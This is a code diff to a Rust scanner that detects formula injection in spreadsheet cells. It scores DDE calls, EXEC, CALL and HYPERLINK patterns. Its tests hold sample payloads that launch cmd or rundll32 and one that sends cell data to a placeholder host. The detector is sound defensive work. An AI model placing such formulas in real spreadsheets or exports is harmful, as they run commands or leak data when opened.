@@ -55,14 +55,25 @@ const CELL_BYTES_MAX: usize = 256;
 
 fn confirm(view: &View<'_>, at: usize) -> Outcome {
     let bytes = view.bytes();
+    // A bar before a quote stands in every second script; a program's name before it does not.
+    let exchange = bytes[at] == b'|';
+    if exchange && (program_before(bytes, at) < PROGRAM_BYTES_MIN || !exchanges(line_from(bytes, at))) {
+        return Outcome::Clean { until: at + 1 };
+    }
     let Some(start) = cell_start(bytes, at) else { return Outcome::Clean { until: at + 1 } };
-    let end = at + bytes[at..].iter().take(CELL_BYTES_MAX).take_while(|byte| !matches!(byte, b'\n' | b'\r')).count();
+    let end = at + line_from(bytes, at).len();
     let end = view.slice(0..bytes.len()).floor_char_boundary(end);
     let cell = &bytes[start..end];
     let called = &bytes[at..end];
     let Some(confidence) = judge(&bytes[start..at], called, cell) else { return Outcome::Clean { until: at + 1 } };
     let hit = Hit::text(start..end, None, confidence, "The cell is a formula that acts when the table is opened.");
     Outcome::Found(if confidence < 0.7 { hit.rated(Severity::Low) } else { hit })
+}
+
+/// The rest of the line of `at`, as far as it is read.
+fn line_from(bytes: &[u8], at: usize) -> &[u8] {
+    let rest = &bytes[at..bytes.len().min(at + CELL_BYTES_MAX)];
+    &rest[..memchr::memchr2(b'\n', b'\r', rest).unwrap_or(rest.len())]
 }
 
 /// Where the cell of the call at `at` begins with a sign of a formula: at the text's or the line's beginning, or
@@ -91,18 +102,20 @@ fn cell_start(bytes: &[u8], at: usize) -> Option<usize> {
 /// How sure it is that the formula that begins with `before` and goes on with `called` attacks.
 fn judge(before: &[u8], called: &[u8], cell: &[u8]) -> Option<f64> {
     if called.starts_with(b"|") {
-        return exchanges(before, called).then_some(0.93);
+        return (!before.is_empty()).then_some(0.93);
     }
     let lower = called.to_ascii_lowercase();
     let has = |words: &[&[u8]]| words.iter().any(|word| memchr::memmem::find(&lower, word).is_some());
     let name = lower.strip_prefix(b"=").or(lower.strip_prefix(b"+")).or(lower.strip_prefix(b"@")).unwrap_or(&lower);
     let address = has(&[b"://", b"\\\\"]);
     let gathers = cell.contains(&b'&') || has(&[b"concat", b"char("]);
-    let closed = called.contains(&b')');
+    let (closed, quoted) = (called.contains(&b')'), called.contains(&b'"'));
     Some(match name {
         _ if name.starts_with(b"dde") => 0.9,
-        _ if name.starts_with(b"exec(") || name.starts_with(b"call(") || name.starts_with(b"register.id(") => {
-            if called.contains(&b'"') { 0.88 } else { return None }
+        _ if quoted
+            && (name.starts_with(b"exec(") || name.starts_with(b"call(") || name.starts_with(b"register.id(")) =>
+        {
+            0.88
         }
         _ if name.starts_with(b"fopen(") => 0.7,
         _ if name.starts_with(b"hyperlink(") && address && gathers => 0.88,
@@ -112,18 +125,27 @@ fn judge(before: &[u8], called: &[u8], cell: &[u8]) -> Option<f64> {
         {
             if gathers || name.starts_with(b"webservice(") || name.starts_with(b"importxml(") { 0.88 } else { 0.82 }
         }
-        _ if name.starts_with(b"rtd(") && closed && called.contains(&b'"') => 0.7,
+        _ if name.starts_with(b"rtd(") && closed && quoted => 0.7,
         _ => return None,
     })
 }
 
-/// True for dynamic data exchange: a program, a topic in quotes, and a cell.
-fn exchanges(before: &[u8], called: &[u8]) -> bool {
-    let program = before.iter().rev().take_while(|byte| byte.is_ascii_alphanumeric() || **byte == b'.').count();
-    let Some(open) = memchr::memchr(b'\'', called) else { return false };
+/// Bytes of the name of a program.
+const PROGRAM_BYTES_MIN: usize = 2;
+const PROGRAM_BYTES_MAX: usize = 32;
+
+/// Bytes of the name of a program that ends before `at`.
+fn program_before(bytes: &[u8], at: usize) -> usize {
+    let in_name = |byte: &&u8| byte.is_ascii_alphanumeric() || **byte == b'.';
+    bytes[..at].iter().rev().take(PROGRAM_BYTES_MAX).take_while(in_name).count()
+}
+
+/// True for the end of a dynamic data exchange, behind the program: a topic in quotes, and a cell.
+fn exchanges(called: &[u8]) -> bool {
+    let (Some(open), Some(_)) = (memchr::memchr(b'\'', called), memchr::memchr(b'!', called)) else { return false };
     let topic = &called[open + 1..];
     let mut quotes = memchr::memchr_iter(b'\'', topic);
-    program >= 2 && quotes.any(|close| topic[close + 1..].trim_ascii_start().starts_with(b"!"))
+    quotes.any(|close| topic[close + 1..].trim_ascii_start().starts_with(b"!"))
 }
 
 #[cfg(test)]
@@ -136,6 +158,7 @@ mod tests {
             "guard.injection.formula",
             &[
                 ("=cmd|'/C calc'!A0", 0..17),
+                ("id\n7;=msexcel|'\\..\\cmd.exe /c x'!''", 5..35),
                 ("Anna,@SUM(1+1)*cmd|' /C calc'!A0", 5..32),
                 ("+rundll32|'url.dll,OpenURL x'!A", 0..31),
                 ("=HYPERLINK(\"https://x.example/?a=\"&A1,\"open\")", 0..45),
